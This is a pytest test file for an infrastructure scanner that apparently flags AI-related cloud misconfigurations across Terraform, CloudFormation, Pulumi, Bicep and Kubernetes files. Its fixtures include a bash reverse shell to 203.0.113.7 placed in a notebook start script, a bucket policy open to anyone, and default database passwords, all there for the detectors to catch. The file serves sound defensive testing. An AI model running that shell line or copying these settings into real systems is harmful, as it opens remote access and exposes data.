"""Infrastructure code across files, modules and languages: what no single document can show."""

# ruff: noqa: E501  infrastructure code as people write it
from __future__ import annotations

import pytest

from upright.app.catalog import units
from upright.discover.document import Document
from upright.discover.examine import examine
from upright.discover.link import link
from upright.graph.derive import derive
from upright.graph.graph import Graph
from upright.graph.merge import merge
from upright.judge.assess import assess
from upright.model.asset import Asset, AssetKind
from upright.model.finding import Severity
from upright.testing.detectors import item


def _graph(*files: tuple[str, str]) -> Graph:
    detectors = units("detectors").values()
    observations, edges, gaps = link([examine(Document(item(path, text)), detectors) for path, text in files])
    assert not gaps
    return derive(merge(observations, edges, gaps))


def _asset(graph: Graph, name: str) -> Asset:
    return next(asset for asset in graph.assets if asset.name == name)


def _grave(graph: Graph) -> set[str]:
    return {found.rule for found in assess(graph, units("rules").values()).findings if found.severity >= Severity.HIGH}


BUCKET = ("main.tf", 'resource "aws_s3_bucket" "training_data" {\n  bucket = "acme-training-data"\n}\n')
OPEN = ("policy.tf", """
resource "aws_s3_bucket_policy" "training" {
  bucket = aws_s3_bucket.training_data.id
  policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = "*", Action = ["s3:GetObject", "s3:PutObject"], Resource = "*" }] })
}
""")  # fmt: skip
BLOCK = ("block.tf", """
resource "aws_s3_bucket_public_access_block" "training" {
  bucket                  = aws_s3_bucket.training_data.id
  block_public_acls       = var.block
  block_public_policy     = var.block
  ignore_public_acls      = var.block
  restrict_public_buckets = var.block
}
variable "block" {
  default = true
}
""")  # fmt: skip


def test_a_policy_in_another_file_opens_a_bucket_and_a_block_beside_it_shuts_it() -> None:
    assert {"store-writable-by-anyone", "bucket-with-ai-data-public"} <= _grave(_graph(BUCKET, OPEN))
    assert not _grave(_graph(BUCKET, OPEN, BLOCK))
    assert "store-writable-by-anyone" in _grave(_graph(BUCKET, OPEN, BLOCK, ("terraform.tfvars", "block = false\n")))


NOTEBOOK = ("lab/main.tf", """
variable "internet" {
  type    = bool
  default = false
}
variable "role" {}
resource "aws_sagemaker_notebook_instance" "nb" {
  role_arn               = var.role
  direct_internet_access = var.internet ? "Enabled" : "Disabled"
  root_access            = "Disabled"
}
""")  # fmt: skip


@pytest.mark.parametrize(
    ("argument", "direct"), [("", False), ("internet = true", True), ("internet = var.unknown", None)]
)
def test_a_module_takes_the_values_of_who_calls_it(argument: str, direct: bool | None) -> None:
    caller = f'module "lab" {{\n  source = "./lab"\n  role = aws_iam_role.exec.arn\n  {argument}\n}}\nresource "aws_iam_role" "exec" {{}}\n'
    graph = _graph(NOTEBOOK, ("main.tf", caller))
    notebook = _asset(graph, "aws_sagemaker_notebook_instance.nb")
    assert notebook.attributes.get("direct_internet") is direct
    assert [role.name for role in graph.out(notebook)] == ["aws_iam_role.exec"]


def test_examples_of_a_module_do_not_decide_its_variables() -> None:
    caller = ("examples/open/main.tf", 'module "lab" {\n  source = "../../lab"\n  internet = true\n}\n')
    assert _asset(_graph(NOTEBOOK, caller), "aws_sagemaker_notebook_instance.nb").attributes["direct_internet"] is False


CLOUDFORMATION = """
Parameters: {Internet: {Type: String, Default: Disabled}}
Resources:
  Lab:
    Type: AWS::SageMaker::NotebookInstance
    Properties: {DirectInternetAccess: !Ref Internet, RootAccess: Disabled, SubnetId: s, KmsKeyId: k, RoleArn: !GetAtt Exec.Arn}
  Exec:
    Type: AWS::IAM::Role
    Properties: {AssumeRolePolicyDocument: {Statement: [{Effect: Allow, Principal: {Service: sagemaker.amazonaws.com}, Action: "sts:AssumeRole"}]}}
"""
PULUMI = """
name: lab
runtime: yaml
resources:
  Lab:
    type: aws:sagemaker:NotebookInstance
    properties: {directInternetAccess: Disabled, rootAccess: Disabled, subnetId: s, kmsKeyId: k, roleArn: '${Exec.arn}'}
  Exec:
    type: aws:iam:Role
    properties: {assumeRolePolicy: '{"Statement": [{"Effect": "Allow", "Principal": {"Service": "sagemaker.amazonaws.com"}, "Action": "sts:AssumeRole"}]}'}
"""
TERRAFORM = """
resource "aws_sagemaker_notebook_instance" "Lab" {
  direct_internet_access = "Disabled"
  root_access = "Disabled"
  subnet_id = "s"
  kms_key_id = "k"
  role_arn = aws_iam_role.Exec.arn
}
resource "aws_iam_role" "Exec" {
  assume_role_policy = jsonencode({ Statement = [{ Effect = "Allow", Principal = { Service = "sagemaker.amazonaws.com" }, Action = "sts:AssumeRole" }] })
}
"""


def test_every_language_gives_the_same_attributes() -> None:
    seen = []
    for path, text in (("t.yaml", CLOUDFORMATION), ("Pulumi.yaml", PULUMI), ("main.tf", TERRAFORM)):
        graph = _graph((path, text))
        seen.append(
            {
                asset.kind: dict(asset.attributes)
                for asset in graph.assets
                if asset.kind in {AssetKind.NOTEBOOK, AssetKind.IDENTITY}
            }
        )
    assert seen[0] == seen[1] == seen[2]
    assert seen[0][AssetKind.NOTEBOOK]["direct_internet"] is False


def test_a_module_of_bicep_takes_its_parameters() -> None:
    inner = "param keys bool = false\nresource account 'Microsoft.CognitiveServices/accounts@2024-10-01' = {\n  properties: { disableLocalAuth: keys }\n}\n"
    outer = "module ai 'core/ai.bicep' = {\n  params: { keys: true }\n}\n"
    assert _asset(_graph(("infra/core/ai.bicep", inner)), "account").attributes["key_access"] is True
    assert (
        _asset(_graph(("infra/core/ai.bicep", inner), ("infra/main.bicep", outer)), "account").attributes["key_access"]
        is False
    )


SERVER = (
    "base/deploy.yaml",
    "apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: llm}\nspec: {template: {metadata: {labels: {app: llm}}, spec: {containers: [{name: c, image: ollama/ollama:0.5.1}]}}}\n",
)
SERVICE = ("base/service.yaml", "apiVersion: v1\nkind: Service\nmetadata: {name: llm}\nspec: {selector: {app: llm}}\n")
OVERLAY = (
    "overlays/prod/service.yaml",
    "apiVersion: v1\nkind: Service\nmetadata: {name: llm}\nspec: {type: LoadBalancer}\n",
)
STRANGER = ("other/service.yaml", "apiVersion: v1\nkind: Service\nmetadata: {name: llm}\nspec: {type: LoadBalancer}\n")


def test_an_overlay_opens_the_service_of_its_base_and_a_stranger_does_not() -> None:
    assert "model-server-exposed" in _grave(_graph(SERVER, SERVICE, OVERLAY))
    assert not _grave(_graph(SERVER, SERVICE))
    below = tuple((f"app/{path}", text) for path, text in (SERVER, SERVICE))
    assert not _grave(_graph(*below, (f"far/{STRANGER[0]}", STRANGER[1])))


def test_what_refers_to_itself_comes_to_an_end() -> None:
    text = 'locals {\n  a = "${local.b}x"\n  b = "${local.a}y"\n}\nmodule "m" {\n  source = "./."\n  v = var.v\n}\nvariable "v" {\n  default = "d"\n}\nresource "aws_s3_bucket" "b" {\n  bucket = local.a\n  acl = var.v\n}\n'
    assert _asset(_graph(("main.tf", text)), "aws_s3_bucket.b").attributes["engine"] == "s3"


LAB = ("lab/main.tf", """
resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "boot" {
  on_start = filebase64("${path.module}/scripts/start.sh")
}

resource "aws_sagemaker_notebook_instance" "desk" {
  lifecycle_config_name = aws_sagemaker_notebook_instance_lifecycle_configuration.boot.name
}
""")  # fmt: skip
SHELL = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/443 0>&1\n"


def test_a_start_script_may_lie_in_a_file_beside_the_code() -> None:
    desk = "aws_sagemaker_notebook_instance.desk"
    assert "startup_flaw" in _asset(_graph(LAB, ("lab/scripts/start.sh", SHELL)), desk).attributes
    assert "startup_flaw" not in _asset(_graph(LAB, ("other/scripts/start.sh", SHELL)), desk).attributes


def test_what_an_agent_may_call_is_read_from_the_interface_beside_the_code() -> None:
    group = (
        "main.tf",
        'resource "aws_bedrockagent_action_group" "x" {}\nresource "aws_bedrockagent_agent_action_group" "tours" {\n  agent_id = "A1"\n  action_group_name = "tours"\n  api_schema {\n    payload = file("${path.module}/tours.yaml")\n  }\n}\n',
    )
    reads = "openapi: 3.0.1\npaths:\n  /tours:\n    get:\n      operationId: listTours\n"
    name = "aws_bedrockagent_agent_action_group.tours"
    gone = _asset(_graph(group, ("tours.yaml", reads + "    delete:\n      operationId: clear\n")), name)
    assert gone.attributes["likely_capabilities"] == ["destroys"]
    assert "likely_capabilities" not in _asset(_graph(group, ("tours.yaml", reads)), name).attributes


@pytest.mark.parametrize(("internal", "exposure"), [("false", "public"), ("true", "organisation")])
def test_a_service_behind_a_balancer_is_as_open_as_the_balancer(internal: str, exposure: str) -> None:
    service = (
        "main.tf",
        f"""
resource "aws_ecs_task_definition" "ask" {{
  container_definitions = jsonencode([{{ name = "web", environment = [{{ name = "OPENAI_BASE_URL", value = "x" }}] }}])
}}
resource "aws_ecs_service" "ask" {{
  task_definition = aws_ecs_task_definition.ask.arn
  load_balancer {{ target_group_arn = aws_lb_target_group.ask.arn }}
}}
resource "aws_lb_target_group" "ask" {{ port = 80 }}
resource "aws_lb" "front" {{ internal = {internal} }}
resource "aws_lb_listener" "front" {{
  load_balancer_arn = aws_lb.front.arn
  default_action {{ target_group_arn = aws_lb_target_group.ask.arn }}
}}
""",
    )
    assert _asset(_graph(service), "aws_ecs_task_definition.ask").exposure == exposure


def test_a_bucket_is_meant_whatever_the_partition() -> None:
    stack = """
Resources:
  Bucket: {Type: "AWS::S3::Bucket", Properties: {BucketName: lab-models}}
  Role:
    Type: AWS::IAM::Role
    Properties:
      Policies:
        - PolicyDocument: {Statement: [{Effect: Allow, Action: "s3:Get*", Resource: !Sub "arn:${AWS::Partition}:s3:::lab-models/*"}]}
  Desk: {Type: "AWS::SageMaker::NotebookInstance", Properties: {RoleArn: !GetAtt Role.Arn}}
"""
    graph = _graph(("stack.yaml", stack))
    assert ("Role", "can_read", "Bucket") in {
        (graph.asset(each.source).name, str(each.kind), graph.asset(each.target).name) for each in graph.relations
    }


def test_a_file_of_parameters_says_what_a_bicep_template_deploys_and_opens() -> None:
    template = ("infra/main.bicep", """param embeddingName string
param reach string = 'Enabled'
resource account 'Microsoft.CognitiveServices/accounts@2024-10-01' = {
  name: 'a'
  kind: 'OpenAI'
  properties: { publicNetworkAccess: reach }
}
resource emb 'Microsoft.CognitiveServices/accounts/deployments@2024-10-01' = {
  parent: account
  name: 'emb'
  properties: { model: { format: 'OpenAI', name: embeddingName } }
}
""")  # fmt: skip
    given = "using './main.bicep'\nparam embeddingName = 'text-embedding-3-large'\nparam reach = 'Disabled'\n"
    alone, together = _graph(template), _graph(template, ("infra/main.bicepparam", given))
    assert _asset(alone, "account").attributes["exposure"] == "public"
    assert _asset(together, "account").attributes["exposure"] == "private"
    pairs = {(together.asset(r.source).name, r.kind.value, together.asset(r.target).name) for r in together.relations}
    assert ("emb", "serves", "text-embedding-3-large") in pairs
    quoted = '{"$schema": "x/deploymentParameters.json#", "parameters": {"reach": {"value": "${REACH=Disabled}"}}}'
    beside = _graph(template, ("infra/main.parameters.json", quoted))
    assert _asset(beside, "account").attributes["exposure"] == "private"


def test_a_database_whose_password_everybody_knows_is_told_and_no_other() -> None:
    source = """
resource "aws_db_instance" "plain" {
  password = "password123"
  publicly_accessible = true
}
resource "azurerm_postgresql_flexible_server" "plain" {
  administrator_password = "Postgres"
}
resource "aws_rds_cluster" "given" {
  master_password = var.password
}
"""
    graph = _graph(("main.tf", source))
    told = {asset.name for asset in graph.assets if asset.attributes.get("default_password")}
    assert told == {"aws_db_instance.plain", "azurerm_postgresql_flexible_server.plain"}
    assert "ai-service-with-default-password" in _grave(graph)


@pytest.mark.parametrize(
    ("resource", "sealed"),
    [
        (('"aws_sagemaker_data_quality_job_definition" "w" {\n  data_quality_job_output_config {\n    kms_key_id = "k"\n'
         '    monitoring_outputs {\n      s3_output {\n        s3_uri = "s3://o"\n      }\n    }\n  }\n'), True),
        (('"aws_sagemaker_data_quality_job_definition" "w" {\n  data_quality_job_output_config {\n'
         '    monitoring_outputs {\n      s3_output {\n        s3_uri = "s3://o"\n      }\n    }\n  }\n'), False),
        ('"aws_sagemaker_data_quality_job_definition" "w" {\n', True),
    ],
)  # fmt: skip
def test_what_watches_a_model_seals_its_volume_and_what_it_writes(resource: str, sealed: bool) -> None:
    volume = '  job_resources {\n    cluster_config {\n      volume_kms_key_id = "k"\n    }\n  }\n}\n'
    seen = _asset(_graph(("w.tf", f"resource {resource}{volume}")), "aws_sagemaker_data_quality_job_definition.w")
    assert seen.attributes["customer_key"] is sealed


@pytest.mark.parametrize(
    ("kind", "sealed"),
    [
        ("aws_comprehend_entity_recognizer", 'model_kms_key_id = "k"'),
        ("aws_comprehend_document_classifier", 'model_kms_key_id = "k"'),
        ("aws_sagemaker_flow_definition", 'output_config {\n    kms_key_id = "k"\n  }'),
    ],
)
def test_a_service_has_the_key_that_it_names(kind: str, sealed: str) -> None:
    for said, told in ((sealed, True), ('name = "n"', False)):
        seen = _asset(_graph(("m.tf", f'resource "{kind}" "m" {{\n  {said}\n}}\n')), f"{kind}.m")
        assert seen.attributes["customer_key"] is told
